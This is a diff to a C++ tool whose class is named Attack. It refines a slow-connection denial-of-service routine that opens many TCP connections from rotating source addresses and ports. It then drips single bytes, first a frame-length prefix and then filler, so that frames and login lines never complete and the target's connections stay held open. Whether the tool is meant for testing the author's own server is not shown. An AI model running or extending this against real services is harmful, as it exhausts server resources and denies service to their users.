@@ -27,6 +27,7 @@
 #include <stdexcept>
 #include <string>
 #include <string_view>
+#include <utility>
 #include <vector>
 
 namespace {
@@ -97,6 +98,7 @@ struct Options {
 struct Connection {
   int descriptor = -1;
   bool connected = false;
+  bool began = false;  // slow: has sent a byte
   std::int64_t due_ns = 0;
 };
 
@@ -163,9 +165,9 @@ class Attack {
     setsockopt(descriptor, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
     sockaddr_in source{};
     source.sin_family = AF_INET;
-    source.sin_addr.s_addr = htonl(kFirstAddress + opened_ % options_.addresses);
+    source.sin_addr.s_addr = htonl(kFirstAddress + opened_ / ports_.size() % options_.addresses);
     ::bind(descriptor, reinterpret_cast<const sockaddr*>(&source), sizeof source);
-    const sockaddr_in& port = ports_[opened_ / options_.addresses % ports_.size()];
+    const sockaddr_in& port = ports_[opened_ % ports_.size()];
     ++opened_;
     const int status = ::connect(descriptor, reinterpret_cast<const sockaddr*>(&port), sizeof port);
     if (status != 0 && errno != EINPROGRESS) {
@@ -173,7 +175,7 @@ class Attack {
       ::close(descriptor);
       return;
     }
-    connection = {descriptor, false, now + kPatienceNs};
+    connection = {descriptor, false, false, now + kPatienceNs};
     epoll_event event{};
     event.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP;
     event.data.u32 = slot;
@@ -205,7 +207,8 @@ class Attack {
   void late(Connection& connection, std::int64_t now) {
     if (!slow_ || !connection.connected) return end(connection);
     connection.due_ns = now + kByteEveryNs;
-    say(connection, std::string_view("\0", 1));
+    // The length of a frame of 100 bytes, of which fewer will come; for a login a line without end.
+    say(connection, std::exchange(connection.began, true) ? "d" : std::string_view("\0", 1));
   }
 
   void say(Connection& connection, std::string_view bytes) {
